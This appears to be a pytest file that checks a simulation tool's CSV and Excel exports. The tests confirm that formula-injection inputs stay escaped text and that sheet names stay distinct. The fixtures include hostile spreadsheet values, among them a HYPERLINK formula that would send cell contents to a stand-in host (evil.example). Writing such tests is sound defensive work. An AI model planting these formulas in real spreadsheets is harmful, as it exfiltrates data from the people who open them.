"""Spreadsheet cells from user text stay text; sheet names never collide."""

import shutil

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from sim import outputs
from sim.cli import main

from .conftest import REPO, SCENARIOS

HOSTILE = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1)",
           "\tcmd", "bell\x07here", "plain"]
ESCAPED = ["'=HYPERLINK(\"http://evil.example\",\"click\")", "'+1+1", "'-2+3", "'@SUM(A1)",
           "'\tcmd", "bellhere", "plain"]


def test_text_cells_are_escaped_in_csv_and_numbers_are_not(tmp_path):
    table = pd.DataFrame({"source": HOSTILE, "value": [-1.5] * len(HOSTILE)})
    outputs.write_csv(table, tmp_path / "t.csv", index=False)
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert list(back["source"]) == ESCAPED
    assert list(back["value"]) == [-1.5] * len(HOSTILE)


def test_text_cells_are_text_in_xlsx_never_formulas(tmp_path):
    table = pd.DataFrame({"=label": HOSTILE, "value": range(-3, len(HOSTILE) - 3)},
                         index=pd.Index(HOSTILE, name="id"))
    outputs.write_xlsx({"t": table}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    rows = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in rows[0]] == ["id", "'=label", "value"]
    assert [r[0].value for r in rows[1:]] == ESCAPED
    assert [r[1].value for r in rows[1:]] == ESCAPED
    assert {c.data_type for r in rows for c in r[:2]} == {"s"}
    assert [r[2].value for r in rows[1:]] == list(range(-3, len(HOSTILE) - 3))


def test_sheet_names_are_valid_and_distinct():
    long = "results_" + "a" * 30
    assert outputs.sheet_names([long + "1", long + "2", "A[1]:b", "RESULTS_" + "A" * 30,
                                "'", "History"]) == [
        "results_" + "a" * 23, "results_" + "a" * 21 + "~2", "A_1__b",
        "RESULTS_" + "A" * 21 + "~3", "sheet", "History~2"]


@pytest.fixture
def cli(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return lambda *args: CliRunner().invoke(main, [str(a) for a in args])


def test_a_formula_in_an_actuals_source_stays_text_in_the_review(cli, tmp_path):
    actuals = tmp_path / "actuals.csv"
    shutil.copyfile(REPO / "calibration" / "data" / "actuals.csv", actuals)
    link = '=HYPERLINK("http://evil.example/?"&A1,"official source")'
    with open(actuals, "a", encoding="utf-8") as f:
        f.write(f'2022,high_tech_enterprises,6600,count,B,,"{link.replace(chr(34), chr(34) * 2)}"\n')
    result = cli("review", "--actuals", actuals, SCENARIOS / "baseline.yaml", "--out", "r")
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "r" / "review.xlsx")["sources"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "'" + link]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    sources = pd.read_csv(tmp_path / "r" / "sources.csv", encoding="utf-8-sig")
    assert "'" + link in set(sources["source"])


def test_compare_keeps_two_names_that_share_31_characters(cli, tmp_path):
    names = ["a_scenario_with_a_long_name_number_one", "a_scenario_with_a_long_name_number_two"]
    paths = []
    for name, growth in zip(names, (0.05, 0.09)):
        path = tmp_path / f"{name}.yaml"
        path.write_text(yaml.safe_dump({"extends": str(SCENARIOS / "baseline.yaml"),
                                        "name": name,
                                        "constants": {"sei real growth": growth}}),
                        encoding="utf-8")
        paths.append(path)
    result = cli("compare", *paths, "--out", "c")
    assert result.exit_code == 0, result.output
    book = pd.read_excel(tmp_path / "c" / "comparison.xlsx", sheet_name=None, index_col=0,
                         engine="openpyxl")
    first, second = "results_a_scenario_with_a_long_", "results_a_scenario_with_a_lon~2"
    assert first in book and second in book
    assert book[first]["sei real growth"].iloc[0] == 0.05
    assert book[second]["sei real growth"].iloc[0] == 0.09
